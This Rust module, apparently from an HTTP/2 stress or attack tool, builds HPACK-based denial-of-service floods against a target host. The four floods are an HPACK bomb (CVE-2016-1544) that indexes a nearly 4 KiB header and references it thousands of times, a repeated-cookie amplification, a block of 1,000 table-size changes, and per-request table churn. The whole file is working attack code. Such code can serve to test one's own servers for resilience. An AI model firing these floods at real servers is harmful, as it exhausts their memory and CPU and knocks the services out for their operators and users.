//! Small blocks that unfold into large heads.

use super::{Flood, get, stream_id};
use crate::frames::{END_HEADERS, END_STREAM, Frame, hpack::Block};

/// The first index of the dynamic table: what was indexed last.
const NEWEST: u64 = 62;

/// HPACK bomb (CVE-2016-1544): one field of almost 4 KiB is put into the table, and then named by one byte, thousands of
/// times a head.
#[derive(Debug)]
pub struct Bomb;

impl Flood for Bomb {
    fn name(&self) -> &'static str {
        "HPACK bomb"
    }

    fn opening(&self, host: &str) -> Vec<Frame> {
        let head = Block::get(host, "/").field_to_index("x-bomb", "b".repeat(3_900));
        vec![Frame::headers(stream_id(0), END_HEADERS | END_STREAM, head)]
    }

    fn wave(&self, n: u32, host: &str) -> Vec<Frame> {
        references(n + 1, host, 4_000)
    }
}

/// Cookie crumbs: a field of a few bytes is named thousands of times. Each crumb is small, and what they are joined to
/// for the origin is not.
#[derive(Debug)]
pub struct CookieCrumbs;

impl Flood for CookieCrumbs {
    fn name(&self) -> &'static str {
        "cookie crumbs"
    }

    fn opening(&self, host: &str) -> Vec<Frame> {
        let head = Block::get(host, "/").field_to_index("cookie", "a=1");
        vec![Frame::headers(stream_id(0), END_HEADERS | END_STREAM, head)]
    }

    fn wave(&self, n: u32, host: &str) -> Vec<Frame> {
        references(n + 1, host, 8_000)
    }
}

/// A request whose head names the newest field so many times.
fn references(n: u32, host: &str, times: usize) -> Vec<Frame> {
    let one: Vec<u8> = Block::new().indexed(NEWEST).into();
    let head = Block::get(host, "/").raw(&one.repeat(times));
    vec![Frame::headers(stream_id(n), END_HEADERS | END_STREAM, head)]
}

/// The table's size is changed over and over within a block: two changes are allowed.
#[derive(Debug)]
pub struct TableSizes;

impl Flood for TableSizes {
    fn name(&self) -> &'static str {
        "HPACK table sizes"
    }

    fn wave(&self, n: u32, host: &str) -> Vec<Frame> {
        let mut sizes = Block::new();
        for size in 0..1_000 {
            sizes = sizes.table_size(size);
        }
        let mut head: Vec<u8> = sizes.into();
        let request: Vec<u8> = Block::get(host, "/").into();
        head.extend(request);
        vec![Frame::headers(stream_id(n), END_HEADERS | END_STREAM, head)]
    }
}

/// The table is filled anew by every request, so that nothing in it is ever of use.
#[derive(Debug)]
pub struct TableChurn;

impl Flood for TableChurn {
    fn name(&self) -> &'static str {
        "HPACK table churn"
    }

    fn opening(&self, host: &str) -> Vec<Frame> {
        vec![get(0, host, "/")]
    }

    fn wave(&self, n: u32, host: &str) -> Vec<Frame> {
        let mut head = Block::get(host, "/");
        for field in 0..50 {
            head = head.field_to_index(format!("x-{n}-{field}"), "c".repeat(40));
        }
        vec![Frame::headers(
            stream_id(n + 1),
            END_HEADERS | END_STREAM,
            head,
        )]
    }
}
